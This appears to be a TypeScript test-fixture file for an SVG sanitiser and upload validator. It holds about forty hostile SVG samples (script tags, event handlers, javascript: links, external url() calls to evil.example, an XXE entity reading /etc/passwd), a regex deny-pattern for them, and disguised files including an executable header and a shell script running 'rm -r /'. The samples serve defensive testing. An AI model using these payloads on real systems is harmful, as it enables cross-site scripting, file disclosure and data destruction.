/** Drawings that hold something beside a drawing; each has a rectangle that is kept. */
const inDrawing = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"${attributes}>${inside}<rect width="9" height="9"/></svg>`;

/** What must not be left in any drawing, whatever was sent. */
export const neverInDrawings =
  /<script|<foreignobject|<iframe|<image\b|<animate|<set\b|<style|<a\b|<!|<\?|\son[a-z]+\s*=|javascript:|data:|https?:\/\/(?!www\.w3\.org\/2000\/svg)|url\(\s*['"]?[^#'"]|@import|expression\(/i;

/** Hostile drawings: cleaned, with their rectangle kept. */
export const drawingsToClean: readonly (readonly [string, string])[] = [
  ['a script', inDrawing('<script>alert(1)</script>')],
  ['a script in capitals', inDrawing('<SCRIPT>alert(1)</SCRIPT>')],
  ['a script of another namespace', inDrawing('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>')],
  ['a script from outside', inDrawing('<script href="https://evil.example/x.js"/>')],
  ['a script in CDATA', inDrawing('<script><![CDATA[alert(1)]]></script>')],
  ['a handler on the drawing', inDrawing('', ' onload="alert(1)"')],
  ['a handler on a shape', inDrawing('<circle r="4" onclick="alert(1)"/>')],
  ['a handler in capitals', inDrawing('<circle r="4" ONMOUSEOVER="alert(1)"/>')],
  ['a handler across lines', inDrawing('<circle r="4"\nonfocus\n=\n"alert(1)" tabindex="0"/>')],
  ['a handler of animation', inDrawing('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['HTML in a foreign object', inDrawing('<foreignObject><iframe src="https://evil.example"/></foreignObject>')],
  ['a form in a foreign object', inDrawing('<foreignObject><form action="https://evil.example"/></foreignObject>')],
  ['a frame', inDrawing('<iframe src="https://evil.example"></iframe>')],
  ['a link with code', inDrawing('<a href="javascript:alert(1)"><circle r="4"/></a>')],
  ['an old link with code', inDrawing('<a xlink:href="javascript:alert(1)"><circle r="4"/></a>')],
  ['a link elsewhere', inDrawing('<a href="https://evil.example"><circle r="4"/></a>')],
  ['a use from outside', inDrawing('<use href="https://evil.example/x.svg#a"/>')],
  ['an old use from outside', inDrawing('<use xlink:href="https://evil.example/x.svg#a"/>')],
  ['a use of data', inDrawing('<use href="data:image/svg+xml;base64,PHN2Zz4="/>')],
  ['a use with code', inDrawing('<use href="JaVaScRiPt:alert(1)"/>')],
  ['a picture from outside', inDrawing('<image href="https://evil.example/pixel.gif" width="1" height="1"/>')],
  ['a picture as data', inDrawing('<image href="data:text/html,x" width="1" height="1"/>')],
  ['an animated link', inDrawing('<animate attributeName="href" to="javascript:alert(1)"/>')],
  ['a set handler', inDrawing('<set attributeName="onmouseover" to="alert(1)"/>')],
  ['an animated transformation', inDrawing('<animateTransform attributeName="transform" onend="alert(1)"/>')],
  ['a style sheet', inDrawing('<style>@import url(https://evil.example/x.css);</style>')],
  ['a style with a picture', inDrawing('<circle r="4" style="background:url(https://evil.example/x.gif)"/>')],
  ['a fill from outside', inDrawing('<circle r="4" fill="url(https://evil.example/x.svg#a)"/>')],
  ['a fill in quotes from outside', inDrawing(`<circle r="4" fill="url('https://evil.example/x.svg#a')"/>`)],
  ['a mask from outside', inDrawing('<circle r="4" mask="url(//evil.example/x.svg#a)"/>')],
  ['a marker from outside', inDrawing('<path d="M0 0L9 9" marker-end="url(https://evil.example/x.svg#a)"/>')],
  ['a filter from outside', inDrawing('<circle r="4" filter="url(https://evil.example/x.svg#a)"/>')],
  ['a picture in a filter', inDrawing('<filter id="f"><feImage href="https://evil.example/x.gif"/></filter>')],
  ['an embedded font', inDrawing('<font-face><font-face-uri href="https://evil.example/x.ttf"/></font-face>')],
  ['an entity', `<!DOCTYPE svg [<!ENTITY x "alert(1)">]>${inDrawing('<text>&x;</text>')}`],
  ['an entity from a file', `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inDrawing('<text>&x;</text>')}`],
  ['a style sheet before it', `<?xml-stylesheet href="https://evil.example/x.xsl"?>${inDrawing('')}`],
  ['a comment that breaks out', inDrawing('<!-- --><script>alert(1)</script><!-- -->')],
  ['a title that breaks out', inDrawing('<title><script>alert(1)</script></title>')],
  ['a description with HTML', inDrawing('<desc><img src="x" onerror="alert(1)"/></desc>')],
  ['metadata', inDrawing('<metadata><script>alert(1)</script></metadata>')],
  ['a video', inDrawing('<video src="https://evil.example/x.mp4" onerror="alert(1)"/>')],
  ['a meta that leads elsewhere', inDrawing('<meta http-equiv="refresh" content="0;url=https://evil.example"/>')],
  ['a base', inDrawing('<base href="https://evil.example/"/>')],
  ['a switch with HTML', inDrawing('<switch><foreignObject><body onload="alert(1)"/></foreignObject></switch>')],
  ['a page around it', '<html onload="alert(1)"><svg viewBox="0 0 4 4"><rect/></svg></html>'],
];

/** What is no drawing at all, or says nothing of its size. */
export const noDrawings: readonly (readonly [string, string])[] = [
  ['a page', '<!doctype html><html><body onload="alert(1)"></body></html>'],
  ['a script alone', '<script>alert(1)</script>'],
  ['words', 'a drawing of a plate'],
  ['a drawing without a size', '<svg xmlns="http://www.w3.org/2000/svg"><rect width="9" height="9"/></svg>'],
  ['a drawing that is endless', '<svg xmlns="http://www.w3.org/2000/svg" width="1e9" height="1e9"><rect/></svg>'],
  ['a drawing of percents', '<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="100%"><rect/></svg>'],
];

const bytes = (...values: readonly number[]): Buffer => Buffer.from(values);
/** The head of the first file in an archive, up to its name. */
const archive = (name: string): Buffer =>
  Buffer.concat([bytes(0x50, 0x4b, 0x03, 0x04), Buffer.alloc(22), bytes(name.length, 0, 0, 0), Buffer.from(name)]);
/** The head of a film of Matroska's family. */
const ebml = (kind: string): Buffer =>
  Buffer.concat([bytes(0x1a, 0x45, 0xdf, 0xa3, 0x9f, 0x42, 0x82, 0x80 + kind.length), Buffer.from(kind)]);
const bom = Buffer.from('\ufeff<html>');

/** Files whose name and bytes do not agree, or of a kind that is not taken. */
export const filesToRefuse: readonly (readonly [string, string, Buffer])[] = [
  ['a page', 'notes.html', Buffer.from('<html><script>alert(1)</script></html>')],
  ['a page that says it is a paper', 'paper.pdf', Buffer.from('<html>%PDF-1.7</html>')],
  ['a page with a mark that says it is a sound', 'sound.mp3', bom],
  ['a script', 'run.js', Buffer.from('alert(1)')],
  ['a program', 'run.exe', bytes(0x4d, 0x5a, 0x90, 0x00)],
  ['a program that says it is a paper', 'paper.pdf', bytes(0x4d, 0x5a, 0x90, 0x00)],
  ['an archive that is cut off', 'all.zip', bytes(0x50, 0x4b, 0x03, 0x04)],
  ['an archive with nothing in it', 'all.zip', Buffer.concat([Buffer.from('PK\u0005\u0006'), Buffer.alloc(18)])],
  ['a packed file that says it is an archive', 'all.zip', bytes(0x1f, 0x8b, 0x08)],
  ['an archive that says it is a workbook', 'prices.xlsx', archive('evil.js')],
  ['a workbook with macros', 'prices.xlsm', archive('[Content_Types].xml')],
  ['an older workbook, which may hold macros', 'prices.xls', bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1)],
  ['such a one that says it is a workbook', 'prices.xlsx', bytes(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1)],
  ['a document', 'words.docm', archive('[Content_Types].xml')],
  ['a page that says it is a table', 'table.csv', Buffer.from('<html><script>alert(1)</script></html>')],
  ['a page after a mark and a line that says it is a table', 'table.csv', Buffer.from('\ufeff\n<!doctype html>')],
  ['a program that says it is a table', 'table.csv', bytes(0x4d, 0x5a, 0x90, 0x00)],
  ['a workbook that says it is a table', 'table.csv', archive('[Content_Types].xml')],
  ['a script of a shell that says it is a table', 'table.csv', Buffer.from('#!/bin/sh\nrm -r /')],
  ['a table in 16 bits, which not every program reads', 'table.csv', Buffer.from('\ufeffgene,guide', 'utf16le')],
  ['a table of spaces', 'table.csv', Buffer.from(' \n ')],
  ['a picture that says it is a film', 'film.mp4', Buffer.from('\0\0\0\u0018ftypavif\0\0\0\0', 'latin1')],
  ['a page that says it is a film', 'film.mp4', Buffer.from('<html>ftypisom</html>')],
  ['a sound that says it is a film', 'film.webm', Buffer.from('OggS')],
  ['a film of a kind that browsers do not play', 'film.webm', ebml('matroska')],
  ['such a film under its own ending', 'film.mkv', ebml('matroska')],
  ['a film with the ending of another', 'film.mp4', ebml('webm')],
  ['an archive that says it is a sound', 'sound.wav', bytes(0x50, 0x4b, 0x03, 0x04)],
  ['a sound of another kind', 'sound.ogg', Buffer.from('RIFF0000WAVE')],
  ['a paper without an ending', 'paper', Buffer.from('%PDF-1.7')],
  ['a paper with two endings', 'paper.pdf.html', Buffer.from('%PDF-1.7')],
  ['a drawing that is packed', 'plate.svgz', bytes(0x1f, 0x8b, 0x08)],
  ['a cursor', 'writer.cur', bytes(0x00, 0x00, 0x02, 0x00)],
];

/** Files that are what their names say, with the type that they are served as. */
export const filesToTake: readonly (readonly [string, string, Buffer, string])[] = [
  ['a film of MP4', 'film.mp4', Buffer.from('\0\0\0\u0018ftypisom\0\0\u0002\0isomiso2', 'latin1'), 'video/mp4'],
  ['a film of a camera', 'FILM.MP4', Buffer.from('\0\0\0\u0018ftypmp42\0\0\0\0', 'latin1'), 'video/mp4'],
  ['a film of WebM', 'film.webm', ebml('webm'), 'video/webm'],
  ['a table', 'guides.csv', Buffer.from('gene,guide\r\nTP53,"GGG"\r\n'), 'text/csv'],
  [
    'a table with a mark and letters of other alphabets',
    'guides.csv',
    Buffer.from('\ufeffGröße;µL;基因\n'),
    'text/csv',
  ],
  [
    ...(['a workbook', 'prices.xlsx', archive('[Content_Types].xml')] as const),
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  ],
  ['an archive', 'press-kit.zip', archive('logo.svg'), 'application/zip'],
];
